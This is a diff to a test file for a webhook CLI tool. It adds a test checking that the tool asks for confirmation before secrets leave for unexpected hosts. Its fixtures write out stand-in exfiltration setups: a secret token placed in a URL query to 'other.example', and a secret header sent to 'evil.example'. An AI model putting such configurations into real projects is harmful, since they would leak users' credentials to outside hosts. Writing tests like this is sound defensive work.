@@ -5,6 +5,7 @@ import { readsText } from '#hosts/cli/reads-text.ts';
 import { respond, startReceiver } from '../support/scripted-receiver.ts';
 import { createTempFolder } from '../support/temp-workspace.ts';
 import { runCommand } from './command.ts';
+import { startHost } from './running-host.ts';
 import { hasTerminals, startOnTerminal } from './terminal.ts';
 
 const keys = { CLOUD_KEY: 'a key of the cloud', OTHER_KEY: 'another key' };
@@ -142,6 +143,33 @@ describe.skipIf(!hasTerminals)('at a terminal (skipped where there is no script 
     await unasked(['apply'], { ...keys, CI: 'true' });
   }, 60_000);
 
+  it('asks where a run sends a secret variable that the file does not refer to, and where a kept secret gets to another host', async () => {
+    const given = `hookyard: 1
+environments: { dev: { variables: { token: { secret: env:CLOUD_KEY } } } }
+`;
+    const endpoint = (url: string, header = '') => `endpoints: { Shop: { url: "${url}", signing: null${header} } }\n`;
+    const { file, folder, common } = foreignProject(
+      given + endpoint('https://shop.example/in', ', secretHeaders: { X-Key: env:OTHER_KEY }'),
+    );
+    expect(await runCommand(['apply', ...common], { env: keys })).toMatchObject({ code: 0 });
+    await startHost(join(folder, 'data'));
+    expect(await runCommand(['environments', 'use', 'dev', ...common.slice(2)])).toMatchObject({ code: 0 });
+    writeFileSync(file, `${given}runs: { leak: { to: "http://other.example/x?t={{ vars.token }}", steps: [{ event: a.b }] } }\n`);
+    const ran = startOnTerminal(['run', 'leak', ...common], keys);
+    await ran.shows(question);
+    ran.type('n\n');
+    const run = await ran.ended;
+    expect(run).toMatchObject({ code: 2, shown: expect.stringContaining('→ http://other.example') });
+    expect(run.shown).toMatch(row('vault:dev/token', 'runs.leak', 'new'));
+    writeFileSync(file, given + endpoint('https://evil.example/in'));
+    const applied = startOnTerminal(['apply', ...common], keys);
+    await applied.shows('1 of these is new. Read them, and go on? [y/N] ');
+    applied.type('n\n');
+    const moved = await applied.ended;
+    expect(moved.code).toBe(2);
+    expect(moved.shown).toMatch(row('kept:endpoints.…tHeaders.X-Key', 'endpoints.Shop', 'new', 'evil.example'));
+  }, 60_000);
+
   it('asks again when a variable behind a filter makes the host another one, and shows it beside a name that fills the screen', async () => {
     const project = (host: string) =>
       `hookyard: 1\nenvironments: { dev: { variables: { host: "${host}" } } }\nendpoints:\n  Shop: { url: "http://{{ vars.host | downcase }}/hooks", signing: null, secretHeaders: { X-Key: env:CLOUD_KEY } }\n`;
@@ -161,7 +189,7 @@ describe.skipIf(!hasTerminals)('at a terminal (skipped where there is no script 
     asked.type('n\n');
     const { code, shown } = await asked.ended;
     expect(code).toBe(2);
-    expect(shown).toMatch(/^ +→ evil\.example$/m);
+    expect(shown).toMatch(/^ +→ http:\/\/evil\.example$/m);
     const list = shown.split('\n').filter((line) => !line.startsWith('hookyard:'));
     expect(Math.max(...list.map((line) => line.length))).toBeLessThanOrEqual(80);
   }, 60_000);
